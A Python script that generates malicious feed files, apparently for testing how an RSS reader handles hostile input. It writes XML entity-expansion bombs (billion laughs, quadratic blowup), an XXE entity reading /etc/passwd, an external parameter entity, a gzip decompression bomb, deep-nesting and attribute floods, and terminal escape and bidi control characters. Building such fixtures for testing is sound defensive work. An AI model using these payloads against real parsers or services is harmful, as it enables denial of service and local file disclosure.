#!/usr/bin/env python3
"""bombs.py DIR: writes documents that hurt a careless reader, one file each."""
import gzip, os, sys

d = sys.argv[1]
os.makedirs(d, exist_ok=True)
def put(name, *parts):
    with open(os.path.join(d, name), 'wb') as f:
        for p in parts:
            f.write(p if isinstance(p, bytes) else p.encode())

rss = '<rss version="2.0"><channel><title>t</title><link>https://x.test/</link><description>d</description>'
item = '<item><guid>%s</guid><title>%s</title><description>%s</description></item>'
end = '</channel></rss>'

put('page.html', '<!DOCTYPE html><html><head><title>Not found</title></head><body><p>Nothing here.</p></body></html>')
put('empty.rss')
put('notfeed.rss', 'Just some words, no markup at all.\n')
put('unknown.rss', '<?xml version="1.0"?><kitchen><sink/></kitchen>')
put('large.rss', rss, (item % (1, 'a', 'x' * 9 * 1024 * 1024)), end)
put('lol.rss', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">' +
    ''.join('<!ENTITY %s "%s">' % (chr(98 + i), ('&%s;' % chr(97 + i)) * 10) for i in range(9)) + ']>', rss, item % (1, '&j;', '&j;'), end)
put('quad.rss', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + 'a' * 50000 + '">]>', rss, item % (1, 't', '&a;' * 50000), end)
put('attlist.rss', '<?xml version="1.0"?><!DOCTYPE rss [' + ''.join('<!ATTLIST rss a%d CDATA "x">' % i for i in range(8000)) + ']>', rss, end)
put('xxe.rss', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', rss, item % (1, '&x;', '&x;'), end)
put('param.rss', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1/e.dtd">%p;]>', rss, end)
put('attributes.rss', '<rss version="2.0"', ''.join(' a%d="x"' % i for i in range(100000)), '><channel></channel></rss>')
put('deep.rss', rss, '<item><title>', '<b>' * 300000, 'x', '</b>' * 300000, '</title></item>', end)
put('deephtml.rss', rss, item % (1, 't', '<![CDATA[' + '<div>' * 300000 + 'x' + ']]>'), end)
put('htmlattributes.rss', rss, item % (1, 't', '<![CDATA[<p ' + ' '.join('a%d="x"' % i for i in range(50000)) + '>x</p>]]>'), end)
put('angles.rss', rss, item % (1, 't', '<![CDATA[' + '<a<b' * 200000 + ']]>'), end)
put('charset.rss', b'<?xml version="1.0" encoding="utf-16"?>' + rss.encode() + b'\xff\xfe\x00\xd8' * 1000)
put('nul.rss', b'\0' * 100000)
put('json.rss', '[' * 200000)
put('items.rss', rss, ''.join(item % (i, 't%d' % i, 'words of item %d' % i) for i in range(6000)), end)
put('controls.rss', rss, item % ('a\x1b]8;;x\x07', '\x1b[31mred\x1b[0m \x9b', 'bell \x07 and \u202e bidi'), end)
with open(os.path.join(d, 'bomb.rss.gz'), 'wb') as f:
    z = gzip.GzipFile(fileobj=f, mode='wb', compresslevel=9, mtime=0)
    z.write(rss.encode())
    for _ in range(1024):
        z.write(b'\0' * 1024 * 1024)
    z.close()
